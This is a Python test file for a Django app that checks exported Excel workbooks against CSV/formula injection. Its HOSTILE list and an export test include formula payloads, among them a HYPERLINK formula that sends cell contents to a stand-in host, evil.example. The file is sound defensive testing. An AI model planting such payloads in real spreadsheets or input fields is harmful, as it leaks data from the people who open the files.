"""No text a user typed becomes a live formula in a workbook we write (OWASP "CSV injection").

Decision: such text is written as a text cell (data type "s") with Excel's quote prefix, so it
reads back unchanged and shows exactly as typed; numbers stay numbers.
"""

import io

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from kaoping.core.tabular import xlsx_cell, xlsx_row
from kaoping.people.models import Subject
from kaoping.publishing.tests.fixtures import household_posting
from kaoping.regions.models import Region

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "=1",
    "#N/A",
]


def read_back(workbook) -> Workbook:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return load_workbook(io.BytesIO(buffer.getvalue()))


@pytest.mark.parametrize("write_only", [True, False])
def test_hostile_text_reads_back_as_the_same_text(write_only):
    workbook = Workbook(write_only=write_only)
    sheet = workbook.create_sheet("s")
    sheet.append(xlsx_row(sheet, [*HOSTILE, "张三", 5, None, "a-b", "bad\x00\x07name"]))
    cells = list(read_back(workbook)["s"].iter_rows())[0]
    for cell, text in zip(cells, HOSTILE, strict=False):
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    plain = cells[len(HOSTILE) :]
    assert [c.value for c in plain] == ["张三", 5, None, "a-b", "badname"]
    assert [c.data_type for c in plain[:2]] == ["s", "n"]
    assert not plain[0].quotePrefix


def test_a_styled_header_cell_is_neutralised_too():
    from openpyxl.styles import Font

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("s")
    sheet.append([xlsx_cell(sheet, "=1+1", font=Font(bold=True)), xlsx_cell(sheet, "名称")])
    first, second = list(read_back(workbook)["s"].iter_rows())[0]
    assert (first.value, first.data_type, first.font.b) == ("=1+1", "s", True)
    assert second.value == "名称"


def formulas(workbook) -> list:
    return [
        c.value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for c in row
        if c.data_type == "f"
    ]


@pytest.mark.django_db
def test_public_and_console_exports_hold_names_as_text(county, client, client_for):
    period = household_posting(county)
    village = '=HYPERLINK("http://evil.example","东岭村")'
    Region.objects.filter(code="330304001001").update(name=village)
    subject = Subject.objects.filter(kind="household", region__code__startswith="330304001001")
    subject.filter(pk=subject.first().pk).update(name="=1+1")
    exports = {
        "public": client.get(reverse("portal:export", args=[period.pk])),
        "console": client_for(county, "alice").get(
            reverse("portal:period_export", args=[period.pk])
        ),
    }
    for where, response in exports.items():
        assert response.status_code == 200, where
        workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
        assert formulas(workbook) == [], where
        texts = {
            c.value: c
            for sheet in workbook.worksheets
            for row in sheet.iter_rows()
            for c in row
            if isinstance(c.value, str)
        }
        assert village in texts and texts[village].data_type == "s", where
        assert texts[village].quotePrefix, where
        # In full for alice; masked on the public page, where the mask keeps the "=".
        name = "=1+1" if where == "console" else "=**1"
        assert name in texts and texts[name].quotePrefix, (where, sorted(texts))


# Modules that build workbooks from fixed text only (our own labels and translations), so they
# need no neutralising; every other writer must route its rows through xlsx_row / xlsx_cell.
FIXED_TEXT_WRITERS = {
    "kaoping/accounts/workbook.py",  # the logins template: column names and role labels
    "kaoping/ledger/testing.py",  # test helper: builds hostile uploads on purpose
}


def test_every_workbook_writer_routes_its_cells_through_the_helper():
    from pathlib import Path

    import kaoping

    root = Path(kaoping.__file__).parent.parent
    writers = {
        str(path.relative_to(root))
        for path in (root / "kaoping").rglob("*.py")
        if "tests" not in path.parts and "from openpyxl import Workbook" in path.read_text()
    }
    assert "kaoping/publishing/exports.py" in writers
    for module in sorted(writers - FIXED_TEXT_WRITERS):
        assert (
            "xlsx_row" in (root / module).read_text() or "xlsx_cell" in (root / module).read_text()
        ), f"{module} writes a workbook without kaoping.core.tabular.xlsx_row"
